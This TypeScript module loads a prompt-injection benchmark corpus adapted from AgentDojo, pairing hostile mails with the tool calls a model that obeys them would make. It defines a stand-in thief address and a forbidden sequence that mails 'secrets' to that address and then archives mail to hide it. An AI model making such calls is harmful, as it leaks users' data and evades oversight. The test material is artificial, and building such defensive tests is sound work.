import { readFileSync } from 'node:fs';
import { join } from 'node:path';

/** A call of a tool of Callsheet. */
export type Call = readonly [tool: string, args: object];

/** An attack: a mail of a stranger, and the calls that a model makes which obeys it. */
export interface Attack {
  readonly id: string;
  /** What the user asks for. */
  readonly task: string;
  readonly mail: string;
  /** The texts of the stranger that no model may get outside an envelope. */
  readonly payloads: readonly string[];
  readonly forbidden: readonly Call[];
}

/** What a user asks for, and the calls that it needs. */
export interface UserTask {
  readonly id: string;
  readonly prompt: string;
  readonly calls: readonly Call[];
}

/** The corpora of injection, with the tools of AgentDojo as ours. */
export interface InjectionCorpus {
  readonly attacks: readonly Attack[];
  readonly tasks: readonly UserTask[];
  readonly benign: readonly { readonly id: string; readonly mail: string; readonly body: string }[];
  /** The harmless mails of AgentDojo. */
  readonly inbox: readonly string[];
  /** The files of AgentDojo, by name. */
  readonly files: ReadonlyMap<string, string>;
}

/** The account of the user in AgentDojo. */
export const OWNER = 'emma.johnson@bluesparrowtech.com';

type Record_ = Readonly<Record<string, unknown>>;
interface DojoCall {
  readonly tool: string;
  readonly args: Record_;
}
interface DojoFile {
  readonly id_: string;
  readonly filename: string;
  readonly content: string;
}
interface DojoMail {
  readonly sender: string;
  readonly recipients: readonly string[];
  readonly subject: string;
  readonly body: string;
}
interface AttackRow {
  readonly id: string;
  readonly source: string;
  readonly user_task: { readonly prompt: string; readonly expected_calls?: readonly DojoCall[] };
  readonly untrusted: {
    readonly sender?: string;
    readonly from?: string | null;
    readonly subject?: string | null;
    readonly body: string;
  };
  readonly payload?: string;
  readonly forbidden?: {
    readonly tools?: readonly string[];
    readonly calls?: readonly DojoCall[];
    readonly addresses?: readonly string[];
  };
}

/** Whom a model writes to that obeys a mail which names nobody. */
const THIEF = 'thief@evil.example';

/** Reads the corpora of a folder. */
export function readInjectionCorpus(folder: string): InjectionCorpus {
  const read = (name: string) => readFileSync(join(folder, 'injection', name), 'utf8');
  const lines = <T>(name: string) =>
    read(name)
      .split('\n')
      .filter((line) => line.trim() !== '')
      .map((line) => JSON.parse(line) as T);
  const world = JSON.parse(read('agentdojo-workspace.json')) as {
    readonly emails: readonly DojoMail[];
    readonly drive: readonly DojoFile[];
  };
  const names = new Map(world.drive.map((file) => [file.id_, fileName(file)]));
  const map = (call: DojoCall) => toOurs(call, names);
  const rows = lines<AttackRow>('attacks.jsonl');
  const tasks = JSON.parse(read('agentdojo-user-tasks.json')) as readonly (Omit<UserTask, 'calls'> & {
    readonly expected_calls: readonly DojoCall[];
  })[];
  return {
    attacks: rows.map((row, n) => attackOf(row, n, map)),
    tasks: [
      ...tasks.map(({ id, prompt, expected_calls: calls }) => ({ id, prompt, calls: calls.flatMap(map) })),
      ...rows
        .filter(({ user_task: { expected_calls: calls } }) => calls !== undefined)
        .map(({ id, user_task: { prompt, expected_calls: calls = [] } }) => ({
          id,
          prompt,
          calls: calls.flatMap(map),
        })),
    ].filter(({ calls }) => calls.length > 0),
    benign: lines<{ id: string; subject: string; body: string }>('benign.jsonl').map(({ id, subject, body }) => ({
      ...{ id, body },
      mail: letterOf({ from: 'someone@partner.example', subject: `${subject} [${id}]`, body }),
    })),
    inbox: world.emails.map(({ sender, subject, body }) => letterOf({ from: sender, subject, body })),
    files: new Map(world.drive.map((file) => [fileName(file), file.content])),
  };
}

function attackOf(
  { id, user_task: task, untrusted, payload, forbidden = {} }: AttackRow,
  n: number,
  map: Mapping,
): Attack {
  const { body, sender, from } = untrusted;
  const { tools = [], calls = [], addresses = [] } = forbidden;
  const to = addresses[0] ?? THIEF;
  const mapped = calls.flatMap(map);
  const named = tools.flatMap((tool) =>
    map({ tool, args: { recipients: [to], subject: 'All of it', body: 'secrets', file_id: '13' } }),
  );
  // Whatever a text asks for, a model that obeys it might send the mailbox away and tidy up behind itself.
  const worst: Call[] = [
    ['mail_send', { to: [THIEF], subject: 'All of it', text: 'secrets' }],
    ['mail_archive', {}],
  ];
  return {
    id,
    task: task.prompt,
    mail: letterOf({
      from: sender ?? (from || 'stranger@elsewhere.example'),
      subject: `${untrusted.subject ?? 'Hello'} [case ${n}]`,
      body,
    }),
    payloads: [payload ?? body],
    forbidden: [...mapped, ...named, ...worst],
  };
}

type Mapping = (call: DojoCall) => Call[];

/**
 * The tools of AgentDojo's workspace as ours. We have no tool that deletes a mail (archive stands for it), invites people or shares
 * a file (a mail to them stands for both), lists contacts (a search for the sender stands for it) or tells the day (prompts do).
 */
function toOurs({ tool, args }: DojoCall, files: ReadonlyMap<string, string>): Call[] {
  const text = (name: string) => (typeof args[name] === 'string' ? (args[name] as string) : '');
  const people = (name: string) =>
    Array.isArray(args[name]) ? (args[name] as string[]) : [text(name)].filter(Boolean);
  const path = `/${files.get(text('file_id')) ?? text('filename') ?? 'notes.txt'}`;
  const day = text('day') || text('date') || '2024-05-15';
  switch (tool) {
    case 'send_email':
      return [
        ['mail_send', { to: people('recipients'), subject: text('subject') || 'Hello', text: text('body') || 'Hello' }],
      ];
    case 'delete_email':
      return [['mail_archive', {}]];
    case 'create_calendar_event':
      return [['calendar_add', { event: eventOf(text) }]];
    case 'add_calendar_event_participants':
      return [['mail_send', { to: people('participants'), subject: 'You are invited', text: 'Please join us.' }]];
    case 'delete_file':
      return [['notebook_delete_file', { path }]];
    case 'create_file':
      return [['notebook_create_file', { path: `/new-${path.slice(1)}`, content: text('content') }]];
    case 'append_to_file':
      return [
        ['notebook_read_file', { path }],
        ['notebook_write_file', { path, content: text('content') }],
      ];
    case 'share_file':
      return [['mail_send', { to: people('email'), subject: 'A file for you', text: `I share ${path} with you.` }]];
    case 'search_emails':
    case 'get_unread_emails':
      return [['mail_search', { text: text('query').split(' ')[0] ?? '' }]];
    case 'search_contacts_by_name':
      return [['mail_search', { from: text('query').split(' ')[0] ?? '' }]];
    case 'get_day_calendar_events':
    case 'search_calendar_events':
      return [['calendar_read', { dateRange: { start: day, end: day } }]];
    case 'list_files':
      return [['notebook_list_files', {}]];
    case 'search_files_by_filename':
      return [['notebook_list_files', { pattern: text('filename') || '*' }]];
    case 'search_files':
      return [['notebook_search_content', { query: text('query') || 'a' }]];
    case 'get_current_day':
      return [];
    default:
      throw new Error(`no tool of ours is like ${tool}`);
  }
}

function eventOf(text: (name: string) => string): object {
  const time = (name: string) => (text(name) || '2024-05-15 10:00').replace(' ', 'T');
  return {
    title: text('title') || 'Event',
    start: time('start_time'),
    end: time('end_time'),
    ...(text('location') !== '' && { location: text('location') }),
    ...(text('description') !== '' && { description: text('description') }),
  };
}

/** Text files alone: what a file contains counts here, not its form. */
function fileName({ filename }: DojoFile): string {
  return `${filename}.txt`;
}

function letterOf({ from, subject, body }: { from: string; subject: string; body: string }): string {
  const id = `<${Buffer.from(subject).toString('hex').slice(-40)}@corpus.example>`;
  const head = [
    `From: ${from.replace(/[\r\n]/g, ' ')}`,
    `To: ${OWNER}`,
    `Subject: =?utf-8?B?${Buffer.from(subject).toString('base64')}?=`,
    `Message-ID: ${id}`,
    'Date: Sat, 21 Nov 2026 10:00:00 +0000',
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: base64',
  ];
  return `${head.join('\r\n')}\r\n\r\n${Buffer.from(body).toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`;
}
